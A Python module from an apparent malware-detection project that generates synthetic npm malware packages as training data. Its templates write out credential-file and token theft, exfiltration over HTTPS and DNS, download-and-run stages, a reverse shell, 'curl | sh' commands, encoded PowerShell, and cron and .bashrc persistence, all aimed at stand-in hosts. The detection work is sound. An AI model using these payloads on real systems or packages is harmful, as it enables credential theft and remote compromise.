"""JavaScript rewrites of the Python training samples: synthetic, defanged npm malware.

The shared data holds no JavaScript malware, so the behaviours of the Python samples are
written again as npm packages, the way npm malware carries them: what a `setup.py` does at
install time becomes a `preinstall`/`install`/`postinstall` script (a file it runs, inline
`node -e` code, or a shell download), what an `__init__.py` does on import becomes the
package's `main`.

- A sample's behaviours are read from its text by the patterns of `BEHAVIOURS` (nothing is
  imported or run; the samples are live malware).
- Each behaviour has several JavaScript forms (`require` styles, promise or callback APIs,
  strings hidden as base64, hex escapes, char codes or reversed), chosen by a seeded random
  generator, so the model learns behaviours, not one template. Some packages get benign utility
  files and a README, as real malicious packages do.
- Defanged: every host is under `.invalid` or a documentation address range (RFC 2606,
  RFC 5737), every file carries a `SYNTHETIC DEFANGED` marker, `package.json` a `_malwi` field.
  They are training data, never meant to run.

A rewrite keeps its source sample's name, so it falls in the source's split
(`tools/unit_sets.py`): train rewrites train, validation rewrites choose, test rewrites test.
Written once into `data/training/synthetic-javascript/rewrites.jsonl` (one package a line) by
`malwi research js-rewrites`, and committed as text.
"""

from __future__ import annotations

import base64
import json
import os
import random
import re
from collections.abc import Callable, Iterable
from pathlib import Path
from typing import Any

__all__ = ["BEHAVIOURS", "REWRITES_FILE", "behaviours_of", "materialise", "rewrite", "run", "write_rewrites"]

MARKER = "SYNTHETIC DEFANGED TRAINING SAMPLE: a JavaScript rewrite of a Python malware sample's behaviours"
MAX_SOURCE_BYTES = 1 << 20
REWRITES_FILE = "rewrites.jsonl"

# Behaviour → the Python text that shows it (case-insensitive, searched in the sample's files).
BEHAVIOURS: dict[str, str] = {
    "download": r"urlopen|urlretrieve|requests\.(get|post)|http\.client|httpx|wget|curl|aiohttp",
    "process": r"subprocess|os\.system|os\.popen|popen\(|check_output|startfile|os\.exec",
    "environment": r"os\.environ|getenv",
    "host_info": r"platform\.|getpass|getuser|gethostname|hostname|uname|getlogin|whoami",
    "credentials": r"\.ssh|id_rsa|\.aws|\.npmrc|\.pypirc|\.gitconfig|login data|local state|cookies|"
    r"discord|leveldb|wallet|exodus|metamask|\.kube|token",
    "encoded": r"b64decode|base64|b32decode|unhexlify|fromhex|codecs\.decode|zlib|marshal",
    "dynamic": r"\bexec\(|\beval\(|compile\(|__import__|importlib",
    "reverse_shell": r"socket\.socket|\.connect\(\(|dup2|pty\.spawn|/bin/sh|/bin/bash|cmd\.exe",
    "dns": r"gethostbyname|dns\.|nslookup|getaddrinfo",
    "webhook": r"webhooks|api\.telegram|telegram|hooks\.slack|pastebin|ngrok|webhook\.site",
    "persistence": r"startup|crontab|\.bashrc|\.profile|currentversion\\\\run|schtasks|autostart|systemd",
    "drop_file": r"open\([^)]*['\"]w|\.write\(|writefile|shutil\.copy",
    "windows": r"powershell|\.exe\b|appdata|winreg|ctypes\.windll",
}
_COMPILED = {name: re.compile(pattern, re.IGNORECASE) for name, pattern in BEHAVIOURS.items()}

WORDS = [
    "data",
    "config",
    "util",
    "helper",
    "core",
    "load",
    "sync",
    "cache",
    "token",
    "net",
    "client",
    "agent",
    "build",
    "init",
    "setup",
    "color",
    "format",
    "parse",
    "stream",
    "buffer",
    "file",
    "path",
    "env",
    "host",
    "user",
    "info",
    "report",
    "log",
    "check",
    "update",
    "fetch",
    "send",
    "task",
    "queue",
    "worker",
    "metric",
    "track",
    "beacon",
    "probe",
    "state",
    "value",
    "item",
    "list",
    "map",
    "node",
    "shell",
    "run",
    "exec",
]
TLDS = ("example.invalid", "cdn.example.invalid", "api.test.invalid", "c2.invalid", "update.invalid")
ADDRESSES = ("192.0.2.", "198.51.100.", "203.0.113.")


def behaviours_of(texts: Iterable[str]) -> list[str]:
    """The behaviours a sample's text shows, in `BEHAVIOURS` order; an obfuscated loader when
    none is recognised (what most such samples are)."""
    joined = "\n".join(texts)
    found = [name for name, pattern in _COMPILED.items() if pattern.search(joined)]
    return found or ["encoded", "dynamic"]


class _Writer:
    """The random choices of one rewrite: names, hosts, string disguises."""

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng
        self.used: set[str] = set()

    def ident(self) -> str:
        while True:
            style = self.rng.random()
            a, b = self.rng.choice(WORDS), self.rng.choice(WORDS)
            if style < 0.4:
                name = a + b.capitalize()
            elif style < 0.6:
                name = f"_{a}"
            elif style < 0.8:
                name = f"{a[0]}{self.rng.randrange(10, 99)}"
            else:
                name = "_0x" + "".join(self.rng.choice("0123456789abcdef") for _ in range(4))
            if name not in self.used:
                self.used.add(name)
                return name

    def url(self, path: str = "") -> str:
        if self.rng.random() < 0.25:
            host = self.rng.choice(ADDRESSES) + str(self.rng.randrange(1, 254))
            host += f":{self.rng.choice((80, 443, 8080, 4444, 1224))}"
        else:
            host = f"{self.rng.choice(WORDS)}{self.rng.randrange(1, 99)}.{self.rng.choice(TLDS)}"
        scheme = self.rng.choice(("https", "http"))
        return f"{scheme}://{host}/{path or self.rng.choice(WORDS)}"

    def host(self) -> str:
        return f"{self.rng.choice(WORDS)}.{self.rng.choice(TLDS)}"

    def string(self, value: str) -> str:
        """`value` as a JavaScript expression: plain, or hidden as malware hides strings."""
        pick = self.rng.random()
        if pick < 0.45:
            return json.dumps(value)
        if pick < 0.65:
            packed = base64.b64encode(value.encode()).decode()
            return f"Buffer.from({json.dumps(packed)}, 'base64').toString()"
        if pick < 0.75:
            return '"' + "".join(f"\\x{ord(c):02x}" for c in value) + '"'
        if pick < 0.85:
            return f"String.fromCharCode({', '.join(str(ord(c)) for c in value)})"
        if pick < 0.93:
            return f"{json.dumps(value[::-1])}.split('').reverse().join('')"
        cut = max(1, len(value) // 2)
        return f"{json.dumps(value[:cut])} + {json.dumps(value[cut:])}"

    def require(self, module: str) -> tuple[str, str]:
        """(a statement that loads `module`, the name it is bound to)."""
        name = self.ident()
        pick = self.rng.random()
        if pick < 0.6:
            return f"const {name} = require('{module}');", name
        if pick < 0.8:
            return f"var {name} = require({self.string(module)});", name
        return f"const {name} = module.require('{module}');", name


def _gather(w: _Writer, kinds: list[str], modules: dict[str, str], out: str) -> list[str]:
    """Statements that collect what the behaviours steal into the object `out`."""
    lines = [f"const {out} = {{}};"]
    if "host_info" in kinds:
        os_ = modules["os"]
        lines.append(
            w.rng.choice(
                (
                    f"{out}.h = {os_}.hostname(); {out}.u = {os_}.userInfo().username; {out}.p = {os_}.platform();",
                    f"Object.assign({out}, {{ host: {os_}.hostname(), home: {os_}.homedir(), "
                    f"user: {os_}.userInfo().username, arch: {os_}.arch(), ifaces: {os_}.networkInterfaces() }});",
                    f"{out}.id = [{os_}.hostname(), {os_}.userInfo().username, {os_}.type()].join('|');",
                )
            )
        )
    if "environment" in kinds:
        lines.append(
            w.rng.choice(
                (
                    f"{out}.env = process.env;",
                    f"{out}.env = JSON.stringify(process.env);",
                    f"for (const k of Object.keys(process.env)) if (/TOKEN|KEY|SECRET|PASS|AWS|NPM/i.test(k)) "
                    f"{out}[k] = process.env[k];",
                    f"{out}.npm = process.env.npm_config_registry; {out}.tok = process.env.NPM_TOKEN || process.env.GITHUB_TOKEN;",
                )
            )
        )
    if "credentials" in kinds:
        fs, path, os_ = modules["fs"], modules["path"], modules["os"]
        targets = w.rng.sample(
            [
                ".ssh/id_rsa",
                ".aws/credentials",
                ".npmrc",
                ".gitconfig",
                ".kube/config",
                ".config/discord/Local Storage/leveldb",
                "AppData/Roaming/discord/Local Storage/leveldb",
                ".config/google-chrome/Default/Login Data",
                "AppData/Local/Google/Chrome/User Data/Local State",
                ".config/Exodus/exodus.wallet",
                ".bash_history",
                ".docker/config.json",
            ],
            w.rng.randrange(1, 5),
        )
        listed = ", ".join(w.string(t) for t in targets)
        item, full = w.ident(), w.ident()
        lines.append(
            f"for (const {item} of [{listed}]) {{\n"
            f"  const {full} = {path}.join({os_}.homedir(), {item});\n"
            f"  try {{\n"
            f"    {out}[{item}] = {fs}.statSync({full}).isDirectory()\n"
            f"      ? {fs}.readdirSync({full}).map((f) => {fs}.readFileSync({path}.join({full}, f), 'utf8'))\n"
            f"      : {fs}.readFileSync({full}, 'utf8');\n"
            f"  }} catch (e) {{}}\n"
            f"}}"
        )
    return lines


def _send(w: _Writer, kinds: list[str], modules: dict[str, str], data: str) -> list[str]:
    """Statements that send `data` out: DNS labels, a webhook, or an HTTP POST."""
    if "dns" in kinds:
        dns = modules["dns"]
        chunk = w.ident()
        return [
            f"const {chunk} = Buffer.from(JSON.stringify({data})).toString('hex').match(/.{{1,60}}/g) || [];",
            f"{chunk}.forEach((part, i) => {dns}.lookup(part + '.' + i + '.' + {w.string(w.host())}, () => {{}}));",
        ]
    url = w.url("api/webhooks/1/x" if "webhook" in kinds else w.rng.choice(WORDS))
    body = w.rng.choice(
        (
            f"JSON.stringify({data})",
            f"Buffer.from(JSON.stringify({data})).toString('base64')",
            f"'d=' + encodeURIComponent(JSON.stringify({data}))",
        )
    )
    if w.rng.random() < 0.4:
        return [f"fetch({w.string(url)}, {{ method: 'POST', body: {body} }}).catch(() => {{}});"]
    http = modules["https"]
    request = w.ident()
    return [
        f"const {request} = {http}.request({w.string(url)}, {{ method: 'POST', headers: "
        f"{{ 'Content-Type': 'application/json' }} }});",
        f"{request}.on('error', () => {{}});",
        f"{request}.write({body});",
        f"{request}.end();",
    ]


def _download_and_run(w: _Writer, kinds: list[str], modules: dict[str, str]) -> list[str]:
    """Fetch code or a binary and run it: evaluated in process, or written out and started."""
    url = w.url(w.rng.choice(("payload", "update.bin", "stage2.js", "init.sh", "x64.exe")))
    http, cp = modules["https"], modules["child_process"]
    body, chunk = w.ident(), w.ident()
    if "dynamic" in kinds or w.rng.random() < 0.3:
        run = w.rng.choice(
            (f"eval({body});", f"new Function({body})();", f"new Function('require', {body})(require);")
        )
        return [
            f"{http}.get({w.string(url)}, (res) => {{",
            f"  let {body} = '';",
            f"  res.on('data', ({chunk}) => ({body} += {chunk}));",
            f"  res.on('end', () => {{ {run} }});",
            "}).on('error', () => {});",
        ]
    fs, path, os_ = modules["fs"], modules["path"], modules["os"]
    dest = w.ident()
    name = w.rng.choice((".cache.bin", "svchost.exe", ".node-update", "helper"))
    start = w.rng.choice(
        (
            f"{cp}.spawn({dest}, [], {{ detached: true, stdio: 'ignore' }}).unref();",
            f"{cp}.exec('chmod +x ' + {dest} + ' && ' + {dest});",
            f"{cp}.execFile({dest}, () => {{}});",
        )
    )
    return [
        f"const {dest} = {path}.join({os_}.tmpdir(), {w.string(name)});",
        f"{http}.get({w.string(url)}, (res) => {{",
        f"  const out = {fs}.createWriteStream({dest}, {{ mode: 0o755 }});",
        "  res.pipe(out);",
        f"  out.on('finish', () => {{ out.close(); {start} }});",
        "}).on('error', () => {});",
    ]


def _process(w: _Writer, kinds: list[str], modules: dict[str, str]) -> list[str]:
    cp = modules["child_process"]
    if "windows" in kinds and w.rng.random() < 0.5:
        encoded = base64.b64encode(f"iwr {w.url()} -OutFile $env:TEMP\\u.exe".encode("utf-16-le")).decode()
        command = f"powershell -w hidden -ep bypass -enc {encoded}"
    else:
        command = w.rng.choice(
            (
                f"curl -s {w.url('i.sh')} | sh",
                f"wget -qO- {w.url('run')} | bash",
                "whoami && id && uname -a",
                f"cat /etc/passwd | curl -s -X POST --data-binary @- {w.url('p')}",
            )
        )
    return [
        w.rng.choice(
            (
                f"{cp}.exec({w.string(command)}, () => {{}});",
                f"try {{ {cp}.execSync({w.string(command)}, {{ stdio: 'ignore' }}); }} catch (e) {{}}",
                f"{cp}.spawn('sh', ['-c', {w.string(command)}], {{ detached: true, stdio: 'ignore' }}).unref();",
            )
        )
    ]


def _reverse_shell(w: _Writer, modules: dict[str, str]) -> list[str]:
    net, cp = modules["net"], modules["child_process"]
    sock, shell = w.ident(), w.ident()
    address = w.rng.choice(ADDRESSES) + str(w.rng.randrange(1, 254))
    program = w.rng.choice(
        ("'/bin/sh'", "'/bin/bash'", "process.platform === 'win32' ? 'cmd.exe' : '/bin/sh'")
    )
    return [
        f"const {sock} = new {net}.Socket();",
        f"{sock}.connect({w.rng.choice((4444, 1337, 9001, 443))}, {w.string(address)}, () => {{",
        f"  const {shell} = {cp}.spawn({program}, []);",
        f"  {sock}.pipe({shell}.stdin);",
        f"  {shell}.stdout.pipe({sock});",
        f"  {shell}.stderr.pipe({sock});",
        "});",
        f"{sock}.on('error', () => {{}});",
    ]


def _persist(w: _Writer, modules: dict[str, str]) -> list[str]:
    fs, path, os_, cp = modules["fs"], modules["path"], modules["os"], modules["child_process"]
    line = "\n(curl -s " + w.url() + " | sh) &\n"
    task = "schtasks /create /sc onlogon /tn Updater /tr " + w.url("u.exe")
    cron = '(crontab -l; echo "*/10 * * * * curl -s ' + w.url() + ' | sh") | crontab -'
    return [
        w.rng.choice(
            (
                f"try {{ {fs}.appendFileSync({path}.join({os_}.homedir(), '.bashrc'), {w.string(line)}); }} catch (e) {{}}",
                f"{cp}.exec({w.string(task)}, () => {{}});",
                f"{cp}.exec({w.string(cron)}, () => {{}});",
            )
        )
    ]


def _encoded(w: _Writer, modules: dict[str, str]) -> list[str]:
    """A payload kept as an encoded string and run once decoded."""
    inner = f"require('child_process').exec('curl -s {w.url()} | sh')"
    packed = base64.b64encode(inner.encode()).decode()
    blob = w.ident()
    run = w.rng.choice(
        (
            f"eval(Buffer.from({blob}, 'base64').toString());",
            f"new Function(Buffer.from({blob}, 'base64').toString())();",
            f"new Function('require', Buffer.from({blob}, 'base64').toString())(require);",
            f"require('vm').runInThisContext(Buffer.from({blob}, 'base64').toString());",
        )
    )
    return [f"const {blob} = {json.dumps(packed)};", run]


MODULE_NEEDS: dict[str, tuple[str, ...]] = {
    "host_info": ("os",),
    "credentials": ("fs", "path", "os"),
    "download": ("https",),
    "process": ("child_process",),
    "reverse_shell": ("net", "child_process"),
    "dns": ("dns",),
    "persistence": ("fs", "path", "os", "child_process"),
    "drop_file": ("fs", "path", "os", "child_process"),
    "environment": (),
    "webhook": ("https",),
}


def payload(w: _Writer, kinds: list[str]) -> str:
    """The JavaScript that does a sample's behaviours."""
    needed = ["https"]  # the stolen data leaves by HTTPS unless DNS carries it
    for kind in kinds:
        needed += [m for m in MODULE_NEEDS.get(kind, ()) if m not in needed]
    if any(k in kinds for k in ("download", "drop_file")):
        needed += [m for m in ("fs", "path", "os", "child_process") if m not in needed]
    modules: dict[str, str] = {}
    lines: list[str] = []
    for module in needed:
        statement, name = w.require(module)
        modules[module] = name
        lines.append(statement)
    body: list[str] = []
    steals: list[str] = [k for k in ("host_info", "environment", "credentials") if k in kinds]
    if steals:
        data = w.ident()
        body += _gather(w, steals, modules, data)
        body += _send(w, kinds, modules, data)
    if "download" in kinds or "drop_file" in kinds:
        body += _download_and_run(w, kinds, modules)
    if "process" in kinds and not ("download" in kinds and w.rng.random() < 0.5):
        body += _process(w, kinds, modules)
    if "reverse_shell" in kinds:
        body += _reverse_shell(w, modules)
    if "persistence" in kinds:
        body += _persist(w, modules)
    if "encoded" in kinds and ("dynamic" in kinds or not body):
        body += _encoded(w, modules)
    if not body:
        body += _encoded(w, modules)
    wrap = w.rng.random()
    if wrap < 0.35:
        lines += body
    elif wrap < 0.6:
        lines += ["(function () {", *("  " + line for line in body), "})();"]
    elif wrap < 0.8:
        name = w.ident()
        lines += [f"function {name}() {{", *("  " + line for line in body), "}", f"{name}();"]
    else:
        lines += [
            "setTimeout(() => {",
            "  try {",
            *("    " + line for line in body),
            "  } catch (e) {}",
            "}, 1000);",
        ]
    return "\n".join(lines) + "\n"


def _benign_strings(w: _Writer) -> str:
    kebab, cut = w.ident(), w.ident()
    return (
        f"function {kebab}(s) {{\n  return String(s).replace(/[A-Z]/g, (c) => '-' + c.toLowerCase());\n}}\n"
        f"function {cut}(s, n) {{\n  return s.length > n ? s.slice(0, n - 1) + '…' : s;\n}}\n"
        f"module.exports = {{ {kebab}, {cut} }};\n"
    )


def _benign_numbers(w: _Writer) -> str:
    add = w.ident()
    return (
        f"const {add} = (a, b) => a + b;\n"
        "function clamp(v, lo, hi) {\n  return Math.min(hi, Math.max(lo, v));\n}\n"
        f"function mean(xs) {{\n  return xs.reduce({add}, 0) / (xs.length || 1);\n}}\n"
        "module.exports = { clamp, mean };\n"
    )


def _benign_cache(w: _Writer) -> str:
    name = w.rng.choice(WORDS).capitalize() + "Cache"
    return (
        "'use strict';\n"
        f"class {name} {{\n"
        "  constructor(limit = 100) { this.limit = limit; this.map = new Map(); }\n"
        "  get(k) { const v = this.map.get(k); if (v !== undefined) { this.map.delete(k); this.map.set(k, v); } return v; }\n"
        "  set(k, v) { this.map.delete(k); this.map.set(k, v); if (this.map.size > this.limit) "
        "this.map.delete(this.map.keys().next().value); }\n"
        "}\n"
        f"module.exports = {{ {name} }};\n"
    )


def _benign_dates(w: _Writer) -> str:
    group = w.ident()
    return (
        "function formatDate(d) {\n  const p = (n) => String(n).padStart(2, '0');\n"
        "  return `${d.getFullYear()}-${p(d.getMonth() + 1)}-${p(d.getDate())}`;\n}\n"
        f"function {group}(list, key) {{\n"
        "  return list.reduce((acc, x) => ((acc[x[key]] = acc[x[key]] || []).push(x), acc), {});\n}\n"
        f"module.exports = {{ formatDate, {group} }};\n"
    )


# Utility files some rewrites carry beside the payload, as real malicious packages carry benign code.
BENIGN_FILES: tuple[Callable[[_Writer], str], ...] = (
    _benign_strings,
    _benign_numbers,
    _benign_cache,
    _benign_dates,
)


def _package_name(source: str, rng: random.Random) -> str:
    """An npm name for the rewrite of sample folder `source` (`<package>_<version>`)."""
    base = re.sub(r"[^a-z0-9]+", "-", source.rsplit("_", 1)[0].lower()).strip("-") or "pkg"
    pick = rng.random()
    if pick < 0.15:
        return f"@{rng.choice(WORDS)}-{rng.choice(WORDS)}/{base}"
    if pick < 0.3:
        return f"{base}-{rng.choice(('js', 'node', 'utils', 'cli', 'sdk'))}"
    return base


def rewrite(source: str, kinds: list[str], install: bool, seed: int) -> dict[str, str]:
    """The files of one npm package doing `kinds` at install time (`install`) or on require."""
    rng = random.Random(f"{seed}:{source}")
    w = _Writer(rng)
    header = f"// {MARKER}\n"
    code = header + payload(w, kinds)
    files: dict[str, str] = {}
    manifest: dict[str, Any] = {
        "name": _package_name(source, rng),
        "version": f"{rng.randrange(0, 5)}.{rng.randrange(0, 20)}.{rng.randrange(0, 20)}",
        "description": rng.choice(
            ("", "Utility helpers", "A tiny library", f"{rng.choice(WORDS)} tools for node")
        ),
        "main": "index.js",
        "license": rng.choice(("MIT", "ISC", "Apache-2.0")),
    }
    if install:
        hook = rng.choice(("postinstall", "preinstall", "install", "postinstall", "preinstall"))
        style = rng.random()
        if style < 0.55:
            script = rng.choice(("install.js", "scripts/postinstall.js", "lib/setup.js", "build.js"))
            files[script] = code
            manifest["scripts"] = {hook: f"node {script}"}
        elif style < 0.8 and len(code) < 1500:
            inline = " ".join(line.strip() for line in code.splitlines()[1:] if line.strip())
            manifest["scripts"] = {hook: f"node -e {json.dumps(inline)}"}
        elif style < 0.9 and ("download" in kinds or "process" in kinds):
            manifest["scripts"] = {hook: f"curl -s {w.url('setup.sh')} | sh"}
            files["index.js"] = code  # the shell download and the code it would drop
        else:
            files["lib/init.js"] = code
            manifest["scripts"] = {hook: "node ./lib/init.js || true"}
        if rng.random() < 0.3:
            manifest["scripts"]["test"] = 'echo "Error: no test specified" && exit 1'
    else:
        main = rng.choice(("index.js", "index.js", "lib/index.js", "dist/index.js", "src/main.js"))
        manifest["main"] = main
        files[main] = code
    if rng.random() < 0.6:
        for i in range(rng.randrange(1, 4)):
            target = rng.choice(("lib", "src", "utils", ""))
            name = f"{target}/{rng.choice(WORDS)}{i}.js".lstrip("/")
            files.setdefault(name, rng.choice(BENIGN_FILES)(w))
    if "index.js" not in files and manifest["main"] == "index.js":
        files["index.js"] = header + "module.exports = {};\n"
    if rng.random() < 0.5:
        files["README.md"] = f"# {manifest['name']}\n\n{manifest['description'] or 'Helpers.'}\n"
    manifest["_malwi"] = MARKER
    files["package.json"] = json.dumps(manifest, indent=2) + "\n"
    return files


def _texts(files: Iterable[tuple[str, bytes]]) -> tuple[list[str], bool]:
    """A sample's Python text (read, never run) and whether it runs at install time."""
    texts: list[str] = []
    install = False
    for path, data in files:
        name = path.rsplit("/", 1)[-1]
        if name.endswith((".py", ".pth")):
            texts.append(data[:MAX_SOURCE_BYTES].decode("utf-8", "replace"))
            install = install or name == "setup.py" or name.endswith(".pth")
    return texts, install


def write_rewrites(
    samples: Iterable[tuple[str, list[tuple[str, bytes]]]], out: Path, share: float, seed: int
) -> dict[str, int]:
    """Rewrite a seeded `share` of the samples (`(<package>_<version> folder, its files)`, as
    `malwi_research.preprocess.malicious_packages` streams them) into `out`, one JSON line a
    package. Returns how many rewrites show each behaviour."""
    counts: dict[str, int] = {"packages": 0}
    out.parent.mkdir(parents=True, exist_ok=True)
    with open(out, "w", encoding="utf-8") as handle:
        for folder, files in samples:
            if random.Random(f"{seed}:pick:{folder}").random() >= share:
                continue
            texts, install = _texts(files)
            if not texts:
                continue
            kinds = behaviours_of(texts)
            counts["packages"] += 1
            for kind in kinds:
                counts[kind] = counts.get(kind, 0) + 1
            record = {
                "source": folder,
                "behaviours": kinds,
                "install": install,
                "files": rewrite(folder, kinds, install, seed),
            }
            handle.write(json.dumps(record, sort_keys=True) + "\n")
    return dict(sorted(counts.items()))


def run(work: Any, args: Any) -> None:
    """`malwi research augment`: write the JavaScript rewrites of the configured share of the
    malicious samples into the configured folder (the file is committed; rerun it only when
    this module changes)."""
    from malwi_research import log
    from malwi_research.preprocess import malicious_packages

    settings = work.config["data_augmentation"]
    rewrites = settings["javascript_rewrites"]
    out = work.config_relative(rewrites["folder"]) / REWRITES_FILE
    archive = work.data_path("malicious_archive")
    work.require(archive)
    counts = write_rewrites(
        malicious_packages(archive, MAX_SOURCE_BYTES), out, rewrites["share"], settings["seed"]
    )
    log(f"augment: {counts['packages']} JavaScript rewrites -> {out}")
    log("augment: behaviours " + json.dumps({k: v for k, v in counts.items() if k != "packages"}))


def materialise(rewrites: Path, into: Path) -> list[tuple[str, str, Path]]:
    """Write each committed rewrite out as a package folder under `into`: (source sample's
    package name, the package's npm name, its folder)."""
    found: list[tuple[str, str, Path]] = []
    with open(rewrites, encoding="utf-8") as handle:
        for number, line in enumerate(handle):
            record = json.loads(line)
            folder = into / f"{number:05d}"
            for relative, text in record["files"].items():
                target = folder / relative
                if os.path.isabs(relative) or ".." in Path(relative).parts:
                    raise ValueError(f"{rewrites}:{number + 1}: a file outside its package: {relative}")
                target.parent.mkdir(parents=True, exist_ok=True)
                target.write_text(text, encoding="utf-8")
            name = json.loads(record["files"]["package.json"])["name"]
            found.append((record["source"].rsplit("_", 1)[0].lower(), name, folder))
    return found
